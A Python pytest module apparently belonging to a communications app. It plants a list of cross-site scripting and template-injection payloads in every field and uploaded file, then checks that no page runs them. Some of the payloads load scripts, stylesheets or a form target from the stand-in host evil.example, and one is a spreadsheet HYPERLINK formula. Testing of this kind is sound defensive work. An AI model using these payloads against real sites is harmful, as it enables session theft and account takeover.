"""Nothing that people or files can fill in runs in anybody's browser (promise 14): a real one opens every page.

Each payload stands in each field. An alert is a dialog; what the content security policy stops is a report, and counts as much,
as the markup was there. Whoever looks is an administrator who is cleared for everything.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import given
import pytest
from everything import rules
from live_server import LiveServer
from markupsafe import Markup
from pages_site import Site, open_site
from playwright.sync_api import Page

from commsapp.accounts import service as accounts
from commsapp.actor import HandlingLevel, Role
from commsapp.http.security import API, EVERYBODY, may_enter
from commsapp.listening import service as listening
from commsapp.listening.coders import TOPIC_CODER, topic_coder_version
from commsapp.planning import service as planning
from commsapp.storage import codings, responses
from commsapp.storage.organisations import Person

pytestmark = pytest.mark.slow

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onfocus=alert(1) autofocus x='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=csrf_token autofocus>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get=/people hx-trigger=load>x</div>",
    "<b",
    "<!--",
    "{{7*7}}{{config}}{% raw %}",
    "${alert(1)}#{7*7}<%= 7*7 %>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "datum['constructor']['constructor']('alert(1)')()",
    "']+alert(1)+datum['",
    "\u202e<script>alert(1)</script>\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip
REASON = "</p><img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    opened = open_site(tmp_path_factory.mktemp("xss"))
    with opened.sessions.writing() as session:  # as somebody who signs in, with two factors, so that their account has its pages
        person = session.get_one(Person, opened.actor.person_id)
        person.email, person.totp_secret = "administrator@example.org", "none that is tried"
    return opened


@pytest.fixture(scope="module")
def ids(site: Site, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Any]]:
    """The payloads in every field; parameter of an address → ids to open it with."""
    programme = _heard(site, tmp_path_factory.mktemp("files"))
    found: dict[str, list[Any]] = {"programme_id": [programme], "number": [-1, 0]}
    found |= _named(site, programme) | _planned(site, programme)
    for name, table in (("import_id", "import_run"), ("response_id", "response"), ("comment_id", "comment"), ("job_id", "job")):
        found[name] = [row[0] for row in given.stored(site.sessions, f"SELECT id FROM {table} ORDER BY id DESC LIMIT 2")]
    return found


def _heard(site: Site, folder: Path) -> int:
    """Files whose every cell, column and name is a payload, and topics that are named after some."""
    with site.sessions.writing() as session:
        programme = listening.create_programme(session, site.actor, name=PAYLOADS[0], description=PAYLOADS[4]).id
    turned = [itertools.islice(itertools.cycle(PAYLOADS), shift, shift + len(PAYLOADS)) for shift in range(7)]
    columns = ("comment", "translation", "translator", "area", "age", "question", "identity")
    rows = [dict(zip(columns, cells, strict=True)) for cells in zip(*turned, strict=True)]
    for number, row in enumerate(rows):
        row |= {
            "date": PAYLOADS[number] if number % 5 == 4 else f"2026-02-{number % 27 + 1:02}",
            "consent": "log; analyse; quote",
        }
        row |= {
            "question": PAYLOADS[number % 5],
            "age": PAYLOADS[number % 6],
            "area": PAYLOADS[number % 4],
            "respondent": f"p{number % 9}",
        }
    names = {"question": f"Heard {PAYLOADS[0]} of it?", "age": PAYLOADS[7], "comment": PAYLOADS[20]}
    rows = [{names.get(column, column): cell for column, cell in row.items()} for row in rows]
    path = given.table(folder / "odd.csv", rows)
    mapping = given.Columns(
        text=names["comment"], date="date", area="area", identity="identity", translation="translation", translator="translator",
        respondent="respondent", consent="consent", attributes=(names["age"],), questions=(names["question"],),
    )  # fmt: skip
    file = listening.check_file(listening.keep(path, site.settings), name=PAYLOADS[5], mapping=mapping)
    with site.sessions.writing() as session:
        channel = listening.add_channel(session, site.actor, programme, name=PAYLOADS[8], chosen="random")
        run, _ = listening.start_import(session, site.actor, programme_id=programme, channel_id=channel.id, file=file)
    listening.run_import(site.sessions, site.actor, import_id=run.id, settings=site.settings)
    given.prepared(site.sessions, site.actor, site.settings, programme)
    _topics(site, programme)
    return programme


def _topics(site: Site, programme: int) -> None:
    named = [{"number": n, "name": PAYLOADS[n], "phrases": list(PAYLOADS), "centroid": b"", "size": 20} for n in range(2)]
    about = {"granularity": "medium", "encoder_version": "none", "threshold": 0.5, "fingerprint": "0123456789abcdef"}
    with site.sessions.writing() as session:
        version = codings.add_version(session, programme_id=programme, topics=named, **about)
        topic = codings.topics(session, version.id)[0].id
        coder = codings.model_coder(session, site.actor, name=TOPIC_CODER, version=topic_coder_version(version))
        shared = {"organisation_id": site.actor.organisation_id, "coder_id": coder, "measure": "topic", "label": "", "rank": 1}
        keys = responses.text_keys(session, site.actor, programme)
        codings.add_codings(session, [{**shared, "topic_id": topic, "probability": 0.9, "text_key": key} for key in keys])


def _seen(words: str) -> str:
    """Without the characters that no name may have."""
    return "".join(letter for letter in words if letter.isprintable())


def _named(site: Site, programme: int) -> dict[str, list[Any]]:
    """Everything that a person gives a name, once for each payload."""
    day, made, actor = date(2026, 1, 1), [], site.actor
    with site.sessions.writing() as session:
        for number, words in enumerate(PAYLOADS):
            first = day + timedelta(days=2 * number)
            made.append(listening.add_wave(session, actor, programme, name=f"{words} {number}", start=first, end=first).id)
            listening.add_context_event(session, actor, programme, name=words, start=first, end=first, kind=words[:40])
            listening.add_channel(session, actor, programme, name=f"{words} {number}", chosen="opt-in")
            listening.add_area(session, actor, programme, name=f"{words} {number}", code=words[:40])
            person, _ = accounts.invite(session, actor, name=_seen(words), email=f"p{number}@example.org", role=Role.WORKER)
            accounts.make_token(session, actor, name=words, scopes=["jobs:read"], days=9)
        accounts.set_level_names(session, actor, dict(zip(HandlingLevel, PAYLOADS[4::3], strict=False)))
        events = listening.context_events(session, actor, programme)
        tokens = accounts.tokens_of(session, actor)
        channels = listening.channels(session, actor, programme)
    listening.store_results(site.sessions, actor, programme)
    response = int(given.stored(site.sessions, "SELECT max(id) FROM response")[0][0])
    listening.withdraw(
        site.sessions,
        actor,
        programme,
        response,
        layers=["publish"],
        why=f"{REASON} {' '.join(PAYLOADS)}",
        settings=site.settings,
    )
    return {
        "wave_id": made[:1], "event_id": [events[0].id], "token_id": [tokens[0].id], "channel_id": [channels[0].id],
        "person_id": [person.id],
    }  # fmt: skip


def _planned(site: Site, programme: int) -> dict[str, list[Any]]:
    """A campaign with a message for each payload, one of which is measured."""
    day, actor = date(2026, 3, 1), site.actor
    with site.sessions.reading() as session:
        results = listening.frozen_results(session, actor, programme, wave="", area="", segment="")
        before = listening.waves(session, actor, programme)[0]
    cited = [int(number) for number in results[results["measure"] == "answer share"]["id"]]
    with site.sessions.writing() as session:
        campaign = planning.create_campaign(
            session, actor, programme_id=programme, name=PAYLOADS[1], approach="deterrence", start=day, end=day,
            objective=" ".join(PAYLOADS),
        )  # fmt: skip
        for words in PAYLOADS:
            message = planning.draft_message(
                session, actor, campaign_id=campaign.id, text=words, behaviour="facilitate", listening_result_id=cited[0]
            )
            planning.add_activity(session, actor, message_id=message.id, medium=words, start=day, end=day)
    assert before
    return {"campaign_id": [campaign.id], "message_id": [message.id], "result_id": cited[:2]}


def addresses(site: Site, ids: dict[str, list[Any]]) -> list[str]:
    """Every page that can be opened, and lists also narrowed by payloads."""
    found = []
    for rule in rules(site.app):
        if "GET" not in (rule.methods or ()) or rule.rule.startswith(API) or rule.endpoint in ("assets.file", "provider.answer"):
            continue
        each = [ids.get(name, [1]) for name in sorted(rule.arguments)]
        for chosen in itertools.product(*each):
            values = dict(zip(sorted(rule.arguments), chosen, strict=True))
            found.append(site.app.url_map.bind("localhost").build(rule.endpoint, values))
    programme = f"/programmes/{ids['programme_id'][0]}"
    for words in PAYLOADS[:24:4]:
        found += [f"{programme}/search?words={quote(words)}", f"{programme}/listening?area={quote(words)}"]
        found += [
            f"/audit?person={quote(words)}",
            f"{programme}/set-aside?reason={quote(words)}",
            f"/sign-in?next={quote(words)}",
        ]
    return found


def ran(page: Page, server: LiveServer, paths: list[str]) -> list[str]:
    """What ran or was stopped on each page: dialogs, reports of the policy, errors of scripts, calls elsewhere."""
    found: list[str] = []
    opened = 0
    page.on("dialog", lambda dialog: (found.append(f"{page.url}: a dialog"), dialog.dismiss()))
    heard_: list[str] = page.heard  # type: ignore[attr-defined]
    for path in paths:
        heard_.clear()
        try:
            status = page.goto(f"{server.url}{path}", wait_until="load")
        except Exception as error:  # a file to download is no page
            if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
                raise
            continue
        assert status is not None and status.status < 500, path
        opened += status.status == 200
        page.wait_for_function("() => !document.querySelector('[data-chart=\"\"], [data-chart=waiting]')")
        told = [line for line in heard_ if "Failed to load resource" not in line and "ERR_ABORTED" not in line]
        found += [f"{path}: {line}" for line in (*told, *page.evaluate("window.violations"))]
    assert opened >= 0.7 * len(paths), f"only {opened} of {len(paths)} pages showed anything"
    return found


def test_no_page_runs_what_people_or_files_filled_in(
    site: Site, ids: dict[str, list[Any]], serve: Callable[..., LiveServer], page: Page, promise: Callable[[int, str], None]
) -> None:
    paths = addresses(site, ids)
    server = serve(site.app)
    found = ran(page, server, paths)
    assert not found, "\n".join(found)
    promise(14, f"{len(PAYLOADS)} payloads in every field, {len(paths)} pages opened: 0 dialogs, reports, script errors or calls")


def test_a_page_that_writes_words_as_markup_is_found(
    site: Site, ids: dict[str, list[Any]], serve: Callable[..., LiveServer], page: Page
) -> None:
    @may_enter(*EVERYBODY)
    def careless() -> str:
        return Markup("<!doctype html><title>x</title>{}").format(Markup(PAYLOADS[4]))

    site.app._got_first_request = False  # the only way to add an address to an application that has answered already
    site.app.add_url_rule("/careless", "careless", careless)
    found = ran(page, serve(site.app), ["/careless"])
    assert any("script-src" in line or "dialog" in line for line in found), found
